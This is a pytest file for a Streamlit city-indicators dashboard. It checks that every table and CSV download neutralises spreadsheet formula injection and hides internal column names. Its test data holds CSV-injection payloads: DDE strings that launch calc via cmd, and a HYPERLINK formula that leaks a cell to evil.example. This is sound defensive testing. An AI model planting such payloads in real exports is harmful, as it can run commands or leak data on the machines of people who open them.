"""No table of the app hands a spreadsheet a live formula or an internal column name.

Every page is opened (AppTest) on a tracker store holding formula-like text people typed — at the start of a
note, after a semicolon, in a list name — and every table and every CSV download it offers is read back:

- the tables' own CSV download and copy are off (``client.disableDataExport``), and no page draws a table except
  through :func:`ui.tables.dataframe`;
- with that setting turned back on, each table hands its toolbar a frame with the reader's headings and no cell a
  spreadsheet could run;
- every download button's CSV holds no such cell either.
"""

from __future__ import annotations

import ast
import csv
import io
import re
import tomllib
from pathlib import Path

import pytest
import streamlit as st

from indicators.core.exports import is_formula_safe
from indicators.tracker.auth import Actor
from indicators.tracker.importer import ensure_seeded
from indicators.tracker.store import Store
from tests.conftest import COMMITTED_SNAPSHOT
from tests.pages.panels import MAP_TABLE, unfold, unfold_chart_tables

REPO = Path(__file__).resolve().parents[2]
CITY = "pittsburgh"
EDITOR = Actor("alice", "editor", "Alice Organizer")
TYPED = {
    "note": "Housing;=cmd|' /C calc'!A0;",
    "author": "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Mayor\")",
    "list": "+Housing first",
    "rationale": "-2+3+cmd|' /C calc'!A0",
    "body": "@SUM(1+1)*cmd|' /C calc'!A0",
}
PAGES = {
    "app_pages/map.py": {},
    "app_pages/profile.py": {"hood": "Bloomfield"},
    "app_pages/compare.py": {"areas": "Bloomfield,Hazelwood"},
    "app_pages/growth.py": {},
    "app_pages/methods.py": {},
    "app_pages/upr_recommendations.py": {},
    "app_pages/upr_recommendations.py#rec": {"rec": "26.214"},
    "app_pages/upr_progress.py": {},
    "app_pages/upr_priorities.py": {},
}
#: pages whose tables are all static (``st.table``)
STATIC_TABLES_ONLY = {"app_pages/methods.py"}
#: a column name as code writes it (``recorded_by``, ``city_status``): never a heading the reader sees
INTERNAL_NAME = re.compile(r"[a-z][a-z0-9]*(_[a-z0-9]+)+")


def test_no_page_draws_an_interactive_table_except_through_the_table_helper():
    drawn_directly = []
    for path in [*REPO.joinpath("app_pages").glob("*.py"), *REPO.joinpath("ui").glob("*.py"), REPO / "dashboard.py"]:
        if path.name == "tables.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if (isinstance(node, ast.Attribute) and node.attr in ("dataframe", "data_editor")
                    and isinstance(node.value, ast.Name) and node.value.id == "st"):
                drawn_directly.append(f"{path.relative_to(REPO)}:{node.lineno}")
    assert drawn_directly == []


def test_the_app_turns_the_tables_own_download_and_copy_off():
    config = tomllib.loads((REPO / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["client"]["disableDataExport"] is True


@pytest.fixture
def hostile_store(tmp_path):
    """The store the pages open (the deep-link fixture's URL), with formula-like text in every typed field."""
    store = Store.open(f"sqlite:///{tmp_path / 'tracker.sqlite'}")
    ensure_seeded(store, COMMITTED_SNAPSHOT / "upr_recommendations.parquet")
    for track in ("city", "community"):
        store.set_status(EDITOR, "26.214", city=CITY, track=track, status="in_progress", as_of="2024-05-01",
                         author=TYPED["author"], note=TYPED["note"], expected_version=0)
    store.create_priority_list(EDITOR, city=CITY, name=TYPED["list"], description=TYPED["note"], items=[
        {"number": "26.214", "rationale": TYPED["rationale"], "responsible_body": TYPED["body"]}])
    store.close()


@pytest.fixture
def offered(monkeypatch) -> list[tuple[str, bytes]]:
    """Every download a page offers: (file name, the bytes it would download)."""
    seen: list[tuple[str, bytes]] = []
    real = st.download_button

    def recording(label, data=None, file_name=None, *args, **kwargs):
        content = data() if callable(data) else data
        seen.append((file_name or "", content.encode() if isinstance(content, str) else content))
        return real(label, content, file_name, *args, **kwargs)

    monkeypatch.setattr(st, "download_button", recording)
    return seen


@pytest.fixture
def table_export_on():
    st.set_option("client.disableDataExport", False)
    yield
    st.set_option("client.disableDataExport", True)


def open_page(deep_link, page: str):
    """Open ``page`` (with its query) after the dashboard's first run, which makes the navigation know every page."""
    at = deep_link("app_pages/map.py")
    if page == "app_pages/map.py":
        unfold(at, MAP_TABLE)
    else:
        for key, value in PAGES[page].items():
            at.query_params[key] = value
        at.switch_page(page.split("#")[0]).run()
        assert not at.exception, [e.message for e in at.exception]
        unfold_chart_tables(at, page)
    return at


def cells(frame) -> list[object]:
    return [value for column in frame.columns for value in frame[column].tolist()]


@pytest.mark.parametrize("page", list(PAGES))
def test_every_table_on_every_page_gives_a_spreadsheet_headings_and_no_formula(deep_link, hostile_store, offered,
                                                                                table_export_on, page):
    at = open_page(deep_link, page)
    if page in STATIC_TABLES_ONLY:
        # its tables are static: no toolbar, nothing to export but the page's own download buttons (below)
        assert at.table and not at.dataframe, f"{page} draws an interactive table"
        return
    assert at.dataframe, f"{page} draws no table"
    for table in at.dataframe:
        frame = table.value
        internal = [c for c in frame.columns if isinstance(c, str) and INTERNAL_NAME.fullmatch(c)]
        assert internal == [], f"{page}: a table exports the column names {internal}"
        live = [c for c in [*frame.columns, *cells(frame)] if isinstance(c, str) and not is_formula_safe(c)]
        assert live == [], f"{page}: a table exports live formulas {live[:3]}"


@pytest.mark.parametrize("page", list(PAGES))
def test_every_csv_a_page_offers_holds_no_formula(deep_link, hostile_store, offered, page):
    offered.clear()
    open_page(deep_link, page)
    csvs = [(name, data) for name, data in offered if name.endswith(".csv")]
    for name, data in csvs:
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
        live = [cell for row in rows for cell in row if not is_formula_safe(cell)]
        assert live == [], f"{page}: {name} holds live formulas {live[:3]}"
    if page.startswith("app_pages/upr_"):
        # the typed text reached the exports, neutralised
        every = "\n".join(d.decode("utf-8-sig") for _name, d in csvs)
        neutralised = ["Housing;'=cmd|' /C calc'!A0;", "'=HYPERLINK(", "'+Housing first", "'-2+3+cmd", "'@SUM(1+1)"]
        assert page.endswith("#rec") or any(text in every for text in neutralised)
